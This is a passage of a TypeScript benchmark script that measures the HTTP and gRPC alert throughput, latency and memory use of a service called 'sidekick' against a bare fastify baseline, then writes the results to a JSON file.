    `sidekick  HTTP POST /, 1 output black-holed     ${singleRate} alerts/s  = ${single.ratioToBaseline}x baseline (target >= 0.5x; median of rounds; by CPU a request ${single.cpuRatioToBaseline}x)`,
  );
  const batched = await measureHttp(`${url}batch`, batch);
  const batchedRate = (batched.requestsPerSecond as number) * BATCH;
  console.log(`sidekick  HTTP POST /batch (${BATCH} a request)      ${round(batchedRate)} alerts/s  = ${round(batchedRate / bareRate, 2)}x baseline`);
  if (ONLY !== undefined) {
    if (runs('grpc')) await grpcOnly(server, grpcAddress, alert, bareRate, hole);
    else await stopAll(server, hole);
    return;
  }
  const grpcSingle = await measureGrpc(grpcAddress, alert, 1);
  console.log(`sidekick  gRPC Publish (1 alert a batch)        ${round(grpcSingle.alertsPerSecond as number)} alerts/s  = ${round((grpcSingle.alertsPerSecond as number) / bareRate, 2)}x baseline`);
  const grpcBatched = await measureGrpc(grpcAddress, alert, BATCH);
  console.log(`sidekick  gRPC Publish (${BATCH} a batch)            ${round(grpcBatched.alertsPerSecond as number)} alerts/s  = ${round((grpcBatched.alertsPerSecond as number) / bareRate, 2)}x baseline`);
  const halfRate = Math.max(1, Math.floor(singleRate / 2));
  const latency = await measureHttp(url, alert, halfRate);
  const latencyMs = latency.latencyMs as { p50: number; p99: number };
  console.log(`sidekick  POST / at ${halfRate} alerts/s (half peak): p50 ${latencyMs.p50} ms, p99 ${latencyMs.p99} ms`);
  await stop(server);

  const rss: Record<string, Record<string, unknown>> = {};
  for (const run of RSS_RUNS) rss[run.key] = await measureRss(hole.url, alert, run.shape, run.webui);
  hole.close();

  const results = {
    benchmark: 'sidekick',
    date: new Date().toISOString(),
    machine: { cpus: cpus().length, node: process.version, loadAverageAtStart, loadAverageAtEnd: loadavg().map((l) => round(l, 1)) },
    settings: {
      alertBytes: alert.length,
      seconds: SECONDS,
      connections: CONNECTIONS,
      batch: BATCH,
      rssSeconds: RSS_SECONDS,
      rssRate: RSS_RATE,
      rssBatch: RSS_BATCH,
      rounds: ROUNDS,
      sidekickNodeFlags: SIDEKICK_NODE_FLAGS,
    },
    baseline: {
      name: 'bare fastify POST / that only parses the JSON',
      alertsPerSecond: round(bareRate),
      latencyMs: rounds.at(-1)?.bare.latencyMs,
      serverCpuMsPerRequest: round(bareCpu, 4),
    },
    http: {
      singleNoOutput: ingestOnly,
      single: { ...single, target: 0.5 },
      batch: { alertsPerSecond: round(batchedRate), ratioToBaseline: round(batchedRate / bareRate, 3), non2xx: batched.non2xx },
    },
    grpc: {
      single: { alertsPerSecond: round(grpcSingle.alertsPerSecond as number), ratioToBaseline: round((grpcSingle.alertsPerSecond as number) / bareRate, 3) },
      batch: { alertsPerSecond: round(grpcBatched.alertsPerSecond as number), ratioToBaseline: round((grpcBatched.alertsPerSecond as number) / bareRate, 3) },
    },
    latencyAtHalfPeak: { rate: halfRate, p50Ms: latencyMs.p50, p99Ms: latencyMs.p99, non2xx: latency.non2xx },
    ...rss,
  };
  mkdirSync(join(ROOT, 'bench', 'results'), { recursive: true });
  writeFileSync(join(ROOT, 'bench', 'results', 'sidekick.json'), `${JSON.stringify(results, null, 2)}\n`);
  rmSync(BUNDLE_DIR, { recursive: true, force: true });
  console.log('wrote bench/results/sidekick.json');
}

const ROLES: Record<string, (spec: never) => Promise<void>> = {
  'serve-bare': serveBare,
  'serve-sidekick': serveSidekick,
  'serve-sidekick-as-shipped': serveSidekickAsShipped,
  'load-http': loadHttp,
  'load-http-paced': loadHttpPaced,
  'load-grpc': loadGrpc,
};

const [role, spec] = process.argv.slice(2);
const run = role ? ROLES[role] : main;
if (!run) {
  console.error(`unknown role ${role}`);
  process.exit(2);
}
run(JSON.parse(spec ?? '{}') as never).catch((error: unknown) => {
  console.error(error);
  process.exit(1);
});
